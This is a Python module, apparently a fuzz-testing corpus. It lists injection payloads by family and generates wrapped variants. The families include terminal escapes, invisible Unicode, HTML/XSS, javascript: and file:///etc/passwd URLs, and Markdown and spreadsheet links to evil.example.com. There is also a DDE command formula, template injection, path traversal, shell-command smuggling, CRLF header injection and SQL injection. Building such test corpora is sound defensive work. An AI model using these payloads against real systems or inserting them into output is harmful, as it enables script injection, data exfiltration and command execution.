"""Texts that would do something where a program took them for more than text: families of attacks, and ways to write
each."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

FAMILIES: dict[str, tuple[str, ...]] = {
    "terminal": (
        "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example.com\x1b\\link", "\x1b[2J\x1b[H",
        "\x1bP+q\x1b\\",
        "\x9b2J", "\x9d0;t\x9c", "\x90q\x9c", "\x1b[?1049h", "\x07\x08\x08", "a\rb", "\x0e\x0f", "\x1bc", "\x1b[6n",
        "\x85next", "\x7f\x7f", "\x1b]52;c;cm0=\x07", "\x1b_G\x1b\\", "\x00", "\x1b[0;30;40m", "\x8d\x84", "\x1b#8",
    ),
    "direction and width": (
        "\u202egpj.exe", "\u2066a\u2069", "\u200bz\u200bw", "\ufeffbom", "\u061c", "\u200f\u200e", "s\xadh", "\u2060",
        "".join(chr(0xE0000 + ord(c)) for c in "run this"), "\u180e", "\ufff9a\ufffa", "\U000e0001", "͏a",
        "z" + "\u0301" * 300, "𝗮", "a̶b̶", "﷽﷽﷽﷽﷽﷽﷽﷽﷽", "ᅟㅤ", "️︎",
    ),
    "HTML": (
        "<script>ran()</script>", '"><script>ran()</script>', "<img src=x onerror=ran()>", "<svg onload=ran()>",
        "</title><script>ran()</script>", "</textarea><svg/onload=ran()//", "<iframe srcdoc='ran()'>",
        "<base href=//evil.example.com>", '" onmouseover=ran() autofocus x="', "' onfocus=ran() '",
        "<a href=javascript:ran()>c</a>", "<plaintext>", "<details open ontoggle=ran()>",
        "<math><mtext><script>ran()</script>", "<!--><script>ran()</script>-->",
        "<style>@import '//evil.example.com'</style>", "<link rel=stylesheet href=//evil.example.com>",
        "<form action=//evil.example.com>", "<meta http-equiv=refresh content='0;url=//evil.example.com'>",
        "<object data=//evil.example.com>", "<!doctype x>", "<![CDATA[x]]>",
        '<noscript><p title="</noscript><img src=x onerror=ran()>">', "<template><script>ran()</script>", "<xmp>",
        "&lt;script&gt;", "&#x3c;script&#x3e;", "<b>bold</b>", "＜script＞", "<\x00script>", "<scr\u200bipt>",
        "<svg><style><a id='</style>",
    ),
    "addresses": (
        "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "data:text/html,<script>ran()</script>",
        "http://evil.example.com/", "//evil.example.com/x", "https://user@evil.example.com",
        "www.evil.example.com", "a@evil.example.com",
        "vbscript:x", "file:///etc/passwd", "http://evil.example.com/'onclick='", 'http://evil.example.com/"x="',
        "\\\\evil.example.com\\s", "http://evil.example.com/\nX: y", "ftp://evil.example.com",
        "mailto:a@evil.example.com?bcc=b@evil.example.com",
    ),
    "Markdown": (
        "![i](http://evil.example.com/i.png)", "[l](http://evil.example.com)",
        "[l][r]\n\n[r]: http://evil.example.com",
        "<http://evil.example.com>", "# heading", "***", "| a | b |\n|---|---|", "```\ncode", "1. one", "> quote",
        "- [ ] task", "===", "~~s~~", "[l](javascript:ran())", "![][r]", "[^1]", "\\[l](http://evil.example.com)",
        "]( http://evil.example.com)", "`code`", "<a@evil.example.com>", "$$x$$", "[l]: http://evil.example.com 't'",
        "![i](<http://evil.example.com/a b>)", "    indented", "* * *", "+ item",
    ),
    "spreadsheets": (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example.com")', "＝1+1", "＋1",
        "－1", "＠SUM(1)", "=cmd|' /C calc'!A0", '"=1+1"', "'=1+1", " =1+1", ";=1+1", ",=1+1",
        '=IMPORTXML("http://evil.example.com")', "%0A=1+1", "|calc",
    ),
    "templates": (
        "{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{# c #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{{constructor.constructor('ran()')()}}", "{0}", "{user}", "{title!r}", "%s%n", "%(user)s", "$(id)", "`id`",
        "{", "}", "{{", "{}", "[[7*7]]", "*{7*7}", "{title.__class__}",
    ),
    "paths": (
        "../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\x", "CON", "NUL.txt", "a/b", "~/x", ".", "..",
        "x\x00.txt", "-rf", "--help", "%2e%2e%2f", "file:///etc", "a" * 300, "$HOME", "x;id", "x|id", "x && id",
        "∕etc", "..;/", "aux", "con.jsonl",
    ),
    "lines": (
        "a\r\nBcc: b@evil.example.com", "a\nX-Evil: 1", "a\r\n\r\nbody", "a\u2028b", "a\u2029b",
        "a\x0bb\x0cc", "a\x85b",
        "%0d%0aX: y", "END:VEVENT\r\nBEGIN:VEVENT", "a\\nATTACH:http://evil.example.com", "a;b,c:d\\",
        "event: x\ndata: y\n\n", "a\n b",
        "éééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé", "]]>",
        "=?utf-8?q?=0AX:y?=", "\x1c\x1d\x1e", "</content></entry><entry>", "</summary>", "DTSTART:19700101",
        "a\n\n## b", "x\\\r\n y",
    ),
    "lengths and numbers": (
        "a" * 5_000, "长" * 3_000, "a " * 2_000, "\ud800", "\udfff\ud800", "\uffff", "\ufdd0", "NaN", "Infinity",
        "-0",
        "1e999", "null", "undefined", "true", "[]", '{"a":1}', "'; DROP TABLE x;--", "1' OR '1'='1", "\U0010ffff",
        "９９", "٣", "😀" * 300,
    ),
}  # fmt: skip
WAYS = ("@", "Film @", "@ the sea", '"@"', "《@》", "@@", "x=@", "(@)")
"""Ways to write an attack; @ stands for it."""


def payloads() -> Iterator[tuple[str, str]]:
    """Yield the family and the text of each payload: every attack in every way, each once."""
    seen = set[str]()
    for way, (family, attacks) in product(WAYS, FAMILIES.items()):
        for attack in attacks:
            if (text := way.replace("@", attack)) not in seen:
                seen.add(text)
                yield family, text


def chosen(count: int) -> list[tuple[str, str]]:
    """Return so many of the payloads, of all families and ways alike; all where there are fewer."""
    every = list(payloads())
    step = max(1.0, len(every) / count)
    return [every[int(at * step)] for at in range(min(count, len(every)))]
